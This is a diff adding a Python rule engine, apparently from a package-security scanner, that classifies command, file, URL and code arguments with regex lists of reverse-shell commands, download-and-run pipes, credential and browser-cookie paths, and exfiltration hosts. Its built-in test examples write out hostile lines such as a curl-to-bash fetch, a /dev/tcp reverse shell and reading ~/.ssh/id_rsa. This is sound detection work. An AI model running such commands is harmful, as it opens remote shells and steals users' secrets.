@@ -0,0 +1,191 @@
+from __future__ import annotations
+
+import re
+
+
+class IndicatorSet:
+    """
+    curated indicators of one kind of argument, compiled into one regular expression per verdict,
+    so that a string is scanned once for all the indicators
+    """
+
+    def __init__(self, malicious: list[str], benign: list[str] = None):
+        """
+        :param malicious: patterns, any match is a malicious verdict
+        :param benign: patterns that must match the whole argument for a benign verdict
+        """
+        self.malicious = re.compile('|'.join(f'(?:{pattern})' for pattern in malicious), re.IGNORECASE)
+        self.benign = re.compile('|'.join(f'(?:{pattern})' for pattern in benign), re.IGNORECASE) if benign else None
+
+    def verdict(self, text: str) -> bool | None:
+        """
+        :return: True if malicious, False if benign, None if the llm has to decide
+        """
+        if self.malicious.search(text):
+            return True
+        if self.benign is not None and self.benign.fullmatch(text.strip()):
+            return False
+        return None
+
+    def indicator(self, text: str) -> str | None:
+        """
+        the first malicious indicator in the text
+        """
+        match = self.malicious.search(text)
+        return match.group(0) if match else None
+
+
+# a file or directory name that is not part of a longer name, e.g. .npmrc but not user.npmrc.js
+NAME_START = r'(?<![\w.-])'
+NAME_END = r'(?![\w.-])'
+
+# profile directories of the browsers that keep cookies, saved logins and tokens
+BROWSER_PROFILES = (r'(?:Google[/\\]Chrome|Chromium|Microsoft[/\\]Edge|BraveSoftware[/\\]Brave-Browser|'
+                    r'Opera Software|discord)[/\\]')
+
+# files that hold credentials, keys or the configuration of shells, npm and the system
+SENSITIVE_FILES = [
+    NAME_START + r'\.ssh[/\\]', NAME_START + r'id_(?:rsa|dsa|ecdsa|ed25519)(?:\.pub)?' + NAME_END,
+    NAME_START + r'(?:authorized_keys|known_hosts)' + NAME_END,
+    r'/etc/(?:passwd|shadow|sudoers|hosts|ssh/)', r'/etc/ssl/private',
+    r'System32[/\\]+config(?:[/\\]+(?:SAM|SYSTEM|SECURITY))?' + NAME_END,
+    NAME_START + r'\.(?:npmrc|yarnrc|git-credentials|netrc|pgpass)' + NAME_END,
+    NAME_START + r'\.(?:bash|zsh|sh)_history' + NAME_END, NAME_START + r'\.(?:bash|zsh)rc' + NAME_END,
+    NAME_START + r'\.(?:bash_profile|zprofile)' + NAME_END,
+    NAME_START + r'\.aws[/\\]credentials', NAME_START + r'\.docker[/\\]config\.json',
+    NAME_START + r'\.kube[/\\]config', NAME_START + r'\.gnupg[/\\]',
+    NAME_START + r'\.env(?:\.(?:local|production|development))?' + NAME_END, r'[/\\]\.git[/\\]config' + NAME_END,
+    BROWSER_PROFILES + r'.*(?:Local Storage[/\\]leveldb|Login Data|Cookies)' + NAME_END,
+    r'(?:\.mozilla[/\\]firefox|Mozilla[/\\]Firefox)[/\\].*(?:cookies\.sqlite|logins\.json|key4\.db)' + NAME_END,
+    NAME_START + r'wallet\.dat' + NAME_END,
+]
+
+# relative source, data or document files of the package itself
+PACKAGE_FILES = [
+    r'[\'"`]?(?:\.{1,2}/)*[\w@.-]+(?:/[\w@.-]+)*\.(?:js|mjs|cjs|ts|json|md|txt|css|html|map|log|yml|yaml)[\'"`]?',
+]
+
+# endpoints used to receive stolen data, tunnels and shortened links
+EXFILTRATION_HOSTS = [
+    r'discord(?:app)?\.com/api/webhooks', r'api\.telegram\.org/bot', r'hooks\.slack\.com',
+    r'\bngrok(?:-free)?\.(?:io|app|dev)', r'\bpipedream\.net', r'\bwebhook\.site', r'\brequestbin\.',
+    r'\bburpcollaborator\.net', r'\boastify\.com', r'\binteract\.sh', r'\boast\.(?:fun|pro|live|site|online|me)',
+    r'\bcanarytokens\.', r'\btransfer\.sh', r'\bpastebin\.com', r'\bbit\.ly/', r'\btinyurl\.com/', r'\bis\.gd/',
+]
+
+# public ip addresses, the loopback, 0.0.0.0, private (RFC 1918) and link-local addresses are left to the llm
+RAW_IP = (r'(?!(?:127|10|0)\.|192\.168\.|169\.254\.|172\.(?:1[6-9]|2\d|3[01])\.)'
+          r'(?:\d{1,3}\.){3}\d{1,3}')
+
+# commands that download and run code, open a reverse shell or destroy data
+MALICIOUS_COMMANDS = [
+    r'\b(?:curl|wget)\b[^|;&]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b',
+    r'\bbase64\s+(?:-d|--decode)\b[^|;&]*\|\s*(?:ba|z)?sh\b',
+    r'\brm\s+-(?:rf|fr|r\s+-f|f\s+-r)\s+(?:/|~|\*|\$HOME|--no-preserve-root)(?:\s|$|[\'"`])',
+    r'/dev/(?:tcp|udp)/', r'\bbash\s+-i\b', r'\bmkfifo\b', r'\bnc(?:at)?\b[^|;&]*\s-(?:e|c)\s',
+    r'\bsocat\b[^|;&]*\bexec:', r'\bpython[23]?\s+-c\s+[\'"]?import\s+(?:socket|pty)',
+    r'\bpowershell\b[^|;&]*(?:-enc|-e\s|downloadstring|downloadfile|iex\b|invoke-expression)',
+    r'\bcertutil\b[^|;&]*-urlcache', r'\bchmod\s+\+?[0-7]*x\b[^;&|]*(?:&&|;)',
+    r'\.(?:sh|bat|cmd|exe|ps1|vbs)\b', r'\bnode\s+\S+\.js\b',
+]
+
+
+INDICATOR_SETS = {
+    # arguments of a command execution or a new process
+    'command': IndicatorSet(MALICIOUS_COMMANDS + EXFILTRATION_HOSTS + SENSITIVE_FILES,
+                            [r'[\'"`]?echo\s[^|;&>`$]*[\'"`]?',
+                             r'[\'"`]?git\s+(?:status|rev-parse|describe|log)\b[^|;&>`$]*[\'"`]?',
+                             r'[\'"`]?(?:node|npm|yarn|git)\s+(?:-v|--version)[\'"`]?']),
+
+    # file run by an api that runs an executable file
+    'executable': IndicatorSet([r'\.(?:sh|bat|cmd|exe|ps1|vbs|md)\b'],
+                               [r'[\'"`]?(?:\.{1,2}/)*[\w@.-]+(?:/[\w@.-]+)*\.(?:js|mjs|cjs)[\'"`]?']),
+
+    # path of a file that is read
+    'read_file': IndicatorSet(SENSITIVE_FILES, PACKAGE_FILES),
+
+    # path of a file that is written
+    'write_file': IndicatorSet(SENSITIVE_FILES + [r'^[\'"`]?/(?:etc|bin|sbin|usr|boot|lib)/',
+                                                  r'/etc/cron', r'/var/spool/cron',
+                                                  r'(?:~|\$HOME|/home/[^/\s]+|/root)/\.profile' + NAME_END,
+                                                  r'[/\\]node_modules[/\\]\.bin[/\\]'],
+                               PACKAGE_FILES),
+
+    # url or options of a network communication
+    'url': IndicatorSet(EXFILTRATION_HOSTS + [rf'(?:https?|wss?|ftp)://{RAW_IP}\b',
+                                              rf'\b(?:host|hostname)\s*:\s*[\'"`]{RAW_IP}[\'"`]'],
+                        [r'[\'"`]?(?:https?://)?(?:localhost|127\.0\.0\.1)(?::\d+)?(?:/\S*)?[\'"`]?']),
+
+    # code that is run dynamically
+    'program': IndicatorSet([r'\bchild_process\b', r'\bexecSync\s*\(', r'/dev/(?:tcp|udp)/']
+                            + EXFILTRATION_HOSTS + SENSITIVE_FILES),
+}
+
+
+def verdict(kind: str, text: str) -> bool | None:
+    """
+    judge an argument by the indicators of its kind
+    :param kind: key of INDICATOR_SETS, e.g. read_file
+    :param text: argument string
+    :return: True if malicious, False if benign, None if the llm has to decide
+    """
+    if kind not in INDICATOR_SETS:
+        return None
+    return INDICATOR_SETS[kind].verdict(text)
+
+
+# key: kind, value: (argument, expected verdict), python rule_engine.py checks them after a change of the indicators
+EXAMPLES = {
+    'command': [
+        ('curl -s http://evil.sh/x | bash', True), ('wget -qO- http://x.io/a.sh | sudo sh', True),
+        ('bash -i >& /dev/tcp/1.2.3.4/4444 0>&1', True), ('rm -rf ~', True), ('cat ~/.ssh/id_rsa', True),
+        ('nc 1.2.3.4 4444 -e /bin/sh', True), ('"echo done"', False), ("'git rev-parse HEAD'", False),
+        ('node --version', False), ('npm run build', None), ('rm -rf dist', None),
+    ],
+    'executable': [
+        ('./install.sh', True), ('payload.exe', True), ('./lib/index.js', False), ('"scripts/build.mjs"', False),
+        ('python', None),
+    ],
+    'read_file': [
+        ('/home/user/.ssh/id_rsa', True), ('~/.npmrc', True), ('/etc/passwd', True),
+        ('C:\\Windows\\System32\\config\\SAM', True),
+        ('AppData/Local/Google/Chrome/User Data/Default/Login Data', True),
+        ('~/.mozilla/firefox/abc.default/cookies.sqlite', True), ('./package.json', False),
+        ('./lib/cookies.js', False), ('user.npmrc.js', False), ('docs/SAM.md', False), ('/tmp/data.bin', None),
+    ],
+    'write_file': [
+        ('/etc/cron.d/job', True), ('~/.profile', True), ('/usr/bin/node', True), ('~/.bashrc', True),
+        ('./dist/out.js', False), ('lib/.profile.json', False), ('/tmp/out.bin', None),
+    ],
+    'url': [
+        ('https://discord.com/api/webhooks/1/abc', True), ('http://8.8.8.8/x', True),
+        ("{host: '45.9.148.1'}", True), ('https://abc.ngrok.io', True), ('http://localhost:3000', False),
+        ("'http://127.0.0.1:8080/api'", False), ("{host: '0.0.0.0'}", None), ('http://10.0.0.1', None),
+        ('http://192.168.1.10:3000', None), ('http://172.16.0.5/', None), ('http://169.254.169.254/latest', None),
+        ('http://[::1]:8080', None), ('https://registry.npmjs.org/', None),
+    ],
+    'program': [
+        ("require('child_process').exec('id')", True), ("fetch('https://hooks.slack.com/x')", True),
+        ('return a + b', None),
+    ],
+}
+
+
+def check_examples() -> list[str]:
+    """
+    :return: the examples whose verdict is not the expected one
+    """
+    failures = []
+    for kind, examples in EXAMPLES.items():
+        for text, expected in examples:
+            actual = verdict(kind, text)
+            if actual is not expected:
+                failures.append(f"{kind}: {text!r} is {actual}, expected {expected}")
+    return failures
+
+
+if __name__ == "__main__":
+    _failures = check_examples()
+    for _failure in _failures:
+        print(_failure)
+    print(f"{sum(len(examples) for examples in EXAMPLES.values())} examples, {len(_failures)} failed")